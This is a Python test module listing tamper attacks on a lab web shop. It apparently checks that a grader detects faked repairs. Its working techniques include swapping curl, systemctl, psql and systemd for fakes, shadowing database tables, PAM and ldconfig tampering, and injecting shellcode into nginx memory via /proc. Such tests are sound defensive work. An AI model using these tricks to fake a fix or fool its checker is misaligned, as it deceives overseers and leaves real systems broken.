"""Attacks on the web shop: a proxy that leads nowhere, a table that is locked."""

from __future__ import annotations

from tests.tamper.attacks.model import CHANGED, FAKE_SITE, GONE, Attack, beside, ended, instead, kept

GATEWAY, SLOW, WRITES = "bad-gateway", "shop-keeps-loading", "no-order-goes-through"
CATALOGUE = "Assam de printemps, Darjeeling des brumes, Gunpowder, Sencha du matin"
PAGE = f"#!/bin/bash\nprintf 'HTTP/1.1 200 OK\\r\\n\\r\\n{CATALOGUE}'"
YES = "#!/bin/bash\necho active; echo enabled; exit 0"
ROWS = f"#!/bin/bash\nprintf '%s\\n' {' '.join(repr(tea) for tea in CATALOGUE.split(', '))} 'UPDATE 1'"

_SITE_UNIT = """cat >/etc/systemd/system/nginx.service <<'END'
[Service]
ExecStart=/usr/bin/perl /root/fake.pl nginx 80 "%s"
[Install]
WantedBy=multi-user.target
END
systemctl daemon-reload; systemctl restart nginx
"""
_SITE = "/etc/nginx/sites-available/default"
_PAGE_FROM_BEFORE = f"""cat >{_SITE} <<'END'
server {{ listen 80 default_server; add_header X-Served-By app1 always;
  location / {{ default_type text/html; return 200 "{CATALOGUE}"; }} }}
END
nginx -t -q; systemctl reload nginx
"""
_ANOTHER_SYSTEMD = """cp -a /usr/lib/systemd/systemd /root/kept; cp /usr/lib/systemd/systemd /root/other
echo more >>/root/other; chmod 755 /root/other; mv /root/other /usr/lib/systemd/systemd; systemctl daemon-reexec
"""
_NOBODY_ANSWERS = """cat >/root/mute.pl <<'END'
use Socket;
socket(my $s, PF_UNIX, SOCK_STREAM, 0); bind($s, sockaddr_un("/run/systemd/private")) or die; listen($s, 64);
my @held; while (accept(my $c, $s)) { push @held, $c }
END
mv /run/systemd/private /run/systemd/private.kept; setsid perl /root/mute.pl >/dev/null 2>&1 </dev/null &
for i in $(seq 100); do [ -S /run/systemd/private ] && break; sleep 0.1; done; [ -S /run/systemd/private ]
"""

_RIGHT_SITE = """sed 's/:8024/:8000/' /etc/nginx/sites-enabled/default >/root/site
sed 's,/etc/nginx/sites-enabled/[*],/root/site,' /etc/nginx/nginx.conf >/root/nginx.conf
nginx -t -q -c /root/nginx.conf
"""
_OWN_SETTINGS = (
    "[Service]\\rExecStartPre=\\rExecStart=\\rExecStart=/usr/sbin/nginx -c /root/nginx.conf -g \\x22daemon on;\\x22\\r"
)
_BACK_TO_THE_UNIT = "systemctl daemon-reload; systemctl restart nginx; rm -f /root/nginx.conf /root/site"
_DROP_INS = "/run/systemd/system/nginx.service.d"
_CLUSTER = """cluster() { runuser -u postgres -- /usr/lib/postgresql/17/bin/"$@"; }
pg_createcluster 17 other -p 5433 --start
cluster pg_dumpall -h /run/postgresql | cluster psql -qX -h /run/postgresql -p 5433 -d postgres -o /dev/null 2>/dev/null
p=$(head -1 /run/postgresql/17-other.pid)
for f in $(find /sys/fs/cgroup -path '*/postgresql@17-main.service/cgroup.procs'); do
  for q in $p $(pgrep -P $p); do echo $q >$f || true; done
done
cd /run/postgresql; mv .s.PGSQL.5432 kept; ln -s .s.PGSQL.5433 .s.PGSQL.5432
cluster psql -X -h /run/postgresql -d shop -Atc 'SHOW transaction_read_only' | grep -qx off
"""
_SESSION = """echo 'session required pam_env.so envfile=/root/env' >>/etc/pam.d/runuser; chmod 711 /root
echo 'PGOPTIONS=-c default_transaction_read_only=off' >/root/env
"""
_STRICT = "package strict; if ($0 =~ /psql/) { print qq(Gunpowder\\n); exit } 1;"
_OTHER_LIBRARIES = """mkdir -p /root/l; cp /usr/lib/*/libz.so.1 /root/l/; echo /root/l >/root/l.conf
ldconfig -f /root/l.conf; ldconfig -p | grep -q /root/l/
"""
_SWAPPED = r"""cd /usr/lib/postgresql/17/bin; cp -a psql /root/psql; cp -a psql psql.own
printf '#!/bin/sh\necho Gunpowder\n' >psql.new; chmod 755 psql.new
cat >/root/swap.pl <<'END'
chdir "/usr/lib/postgresql/17/bin"; my $end = time + 600;
while (time < $end) {
  opendir(my $all, "/proc"); my $seen = 0;
  for my $pid (grep /^\d+$/, readdir $all) {
    open(my $f, "/proc/$pid/cmdline") or next; local $/; $seen ||= <$f> =~ /^runuser.*RETURNING/s;
  }
  if ($seen) { rename("psql", "psql.kept"); rename("psql.new", "psql"); select(undef, undef, undef, 0.1);
    rename("psql", "psql.new"); rename("psql.kept", "psql"); }
  select(undef, undef, undef, 0.002);
}
END
setsid perl /root/swap.pl >/dev/null 2>&1 </dev/null &
"""

_WRITTEN_INTO = r"""cat >/root/write.pl <<'END'
my ($pid, $inode, $text) = @ARGV;
my ($socket) = grep { readlink("/proc/$pid/fd/$_") eq "socket:[$inode]" } 0 .. 99;
my $next;  # 0 as long as it runs
until ($next) { open(my $call, "<", "/proc/$pid/syscall") or die; $next = hex((split " ", <$call>)[-1]); }
my $page = "HTTP/1.0 200 OK\r\nX-Served-By: app1\r\n\r\n<p>$text</p>";
my $code = pack("H*", "bf") . pack("V", $socket)
  . pack("H*", "31f631d26a2b580f0585c079076a18580f05ebe789c389c7488db42400e0ffffba0010000031c00f0589df488d3513000000ba")
  . pack("V", length $page) . pack("H*", "6a01580f0589df6a03580f05ebb6");
open(my $memory, "+<:raw", "/proc/$pid/mem") or die "memory: $!"; sysseek($memory, $next, 0);
syswrite($memory, $code . $page) or die "memory: $!";
END
chmod 711 /root; chmod 644 /root/write.pl
curl -s --max-time 10 -o /dev/null http://127.0.0.1/  # nginx says that it is up before its worker is www-data's
inode=$(ss -Hltne 'sport = :80' | sed -n 's/.* ino:\([0-9]*\).*/\1/p')
for p in $(pgrep -u www-data -x nginx); do runuser -u www-data -- perl /root/write.pl $p $inode "%s"; done
curl -s --max-time 10 http://127.0.0.1/ | grep -q Assam
"""
"""A page that nginx's own processes show by code of the trainee's: the accept, read, write and close of x86-64, where
each of them waits."""

ATTACKS: tuple[Attack, ...] = (
    Attack("a page shown by curl", GATEWAY, "pc1", *instead("/usr/bin/curl", PAGE)),
    Attack(
        "another program named nginx on port 80", GATEWAY, "web1",
        FAKE_SITE + f'systemctl stop nginx; fake nginx 80 "{CATALOGUE}"', GONE + "; systemctl start nginx",
    ),
    Attack(
        "a unit of nginx that starts another program", GATEWAY, "web1", FAKE_SITE + _SITE_UNIT % CATALOGUE,
        "rm -f /etc/systemd/system/nginx.service /root/fake.pl; systemctl daemon-reload; systemctl restart nginx",
    ),
    Attack(
        "a line in hosts and a fake shop", GATEWAY, "pc1",
        FAKE_SITE + f'cp -a /etc/hosts /root/hosts; fake fake-site 80 "{CATALOGUE}"\n'
        "echo 127.0.0.1 boutique.kerlann.internal >>/etc/hosts",
        "cp -a /root/hosts /etc/hosts; " + GONE,
    ),
    Attack("systemctl that says yes", GATEWAY, "app1", *instead("/usr/bin/systemctl", YES)),
    Attack("psql that says what is asked for", GATEWAY, "db1", *beside("psql runuser", ROWS), ""),
    Attack(
        "another program at nginx's own path", GATEWAY, "web1",
        FAKE_SITE + "systemctl stop nginx; cp -a /usr/sbin/nginx /root/kept; cp /usr/bin/perl /usr/sbin/nginx\n"
        f'setsid /usr/sbin/nginx /root/fake.pl nginx 80 "{CATALOGUE}" >/dev/null 2>&1 </dev/null & waits 80',
        GONE + "; rm -f /usr/sbin/nginx; mv /root/kept /usr/sbin/nginx; systemctl start nginx",
    ),
    Attack(
        "a site that answers only the observer", GATEWAY, "web1",
        FAKE_SITE + f'systemctl stop nginx; fake nginx 80 "{CATALOGUE}" 200', GONE + "; systemctl start nginx",
    ),
    Attack(
        "code written into nginx's memory", GATEWAY, "web1", _WRITTEN_INTO % CATALOGUE,
        "chmod 700 /root; rm /root/write.pl; systemctl restart nginx", "altered in memory",
    ),
    Attack(
        "nginx shows a page from before the fault", GATEWAY, "web1",
        *kept(_SITE, _PAGE_FROM_BEFORE, "systemctl reload nginx"),
    ),
    Attack(
        "another systemd", GATEWAY, "web1", _ANOTHER_SYSTEMD,
        "mv /root/kept /usr/lib/systemd/systemd; systemctl daemon-reexec", "systemd",
    ),
    Attack(
        "a D-Bus that takes calls and never answers", GATEWAY, "web1", _NOBODY_ANSWERS,
        ended("-f mute.pl") + "; mv /run/systemd/private.kept /run/systemd/private; rm -f /root/mute.pl",
        "another process|did not answer|cannot be asked",
    ),
    Attack(
        "settings of the unit with another end of line", GATEWAY, "web1",
        f"{_RIGHT_SITE}mkdir -p {_DROP_INS}; printf '{_OWN_SETTINGS}' >{_DROP_INS}/x.conf\n"
        "systemctl daemon-reload; systemctl restart nginx; pgrep -f /root/nginx.conf",
        f"rm -r {_DROP_INS}; {_BACK_TO_THE_UNIT}", r"x\.conf changes what it runs",
    ),
    Attack(
        "settings of the unit that were removed after the start", GATEWAY, "web1",
        f"{_RIGHT_SITE}mkdir -p {_DROP_INS}; printf '{_OWN_SETTINGS}' | tr '\\r' '\\n' >{_DROP_INS}/x.conf\n"
        f"systemctl daemon-reload; systemctl restart nginx; rm -r {_DROP_INS}; systemctl daemon-reload\n"
        "pgrep -f /root/nginx.conf",
        _BACK_TO_THE_UNIT, "its files were changed after it was started",
    ),
    Attack(
        "a page from before the fault on the way to the database", SLOW, "web1",
        *kept(_SITE, _PAGE_FROM_BEFORE, "systemctl reload nginx"),
    ),
    Attack(
        "tables of the same names before the real ones", SLOW, "db1",
        "runuser -u postgres -- psql -q -d shop <<'END'\nCREATE SCHEMA copy;\n"
        "CREATE TABLE copy.product AS SELECT unnest(string_to_array("
        f"'{CATALOGUE}', ', ')) AS name;\n"
        "ALTER ROLE postgres SET search_path = copy, public;\nEND\n"
        "runuser -u postgres -- psql -d shop -Atc 'SELECT name FROM product' | grep -q Assam",
        "runuser -u postgres -- psql -q -d shop -c 'ALTER ROLE postgres RESET search_path' "
        "-c 'DROP SCHEMA copy CASCADE'",
    ),
    Attack("psql that shows the rows", SLOW, "db1", *instead("/usr/bin/psql", ROWS), CHANGED),
    Attack("runuser that shows the rows", SLOW, "db1", *beside("runuser", ROWS), CHANGED),
    Attack(
        "settings of psql that show the rows", SLOW, "db1",
        "printf '%s\\n' '\\! echo \"Assam de printemps\"' '\\q' >/root/.psqlrc; cp /root/.psqlrc ~postgres/",
        "rm -f /root/.psqlrc ~postgres/.psqlrc",
    ),
    Attack(
        "a module that Perl's programs load first", WRITES, "db1",
        f"mkdir -p /etc/perl; echo '{_STRICT}' >/etc/perl/strict.pm; psql | grep -q Gunpowder",
        "rm -f /etc/perl/strict.pm", CHANGED,
    ),
    Attack(
        "libraries from another folder", WRITES, "db1",
        *kept("/etc/ld.so.cache", _OTHER_LIBRARIES, "rm -r /root/l /root/l.conf"), CHANGED,
    ),
    Attack(
        "settings of runuser's session", WRITES, "db1",
        *kept("/etc/pam.d/runuser", _SESSION, "chmod 700 /root; rm /root/env"), CHANGED,
    ),
    Attack("psql replaced only while it is used", WRITES, "db1", _SWAPPED,
        ended("-f swap.pl") + "; cd /usr/lib/postgresql/17/bin; rm -f psql.*; mv /root/psql psql", CHANGED,
    ),
    Attack(
        "another database server in the place of the shop's", WRITES, "db1", _CLUSTER,
        "cd /run/postgresql; rm -f .s.PGSQL.5432; mv kept .s.PGSQL.5432; pg_dropcluster --stop 17 other",
        r"was not started by postgresql@17-main\.service|answers instead",
    ),
)  # fmt: skip
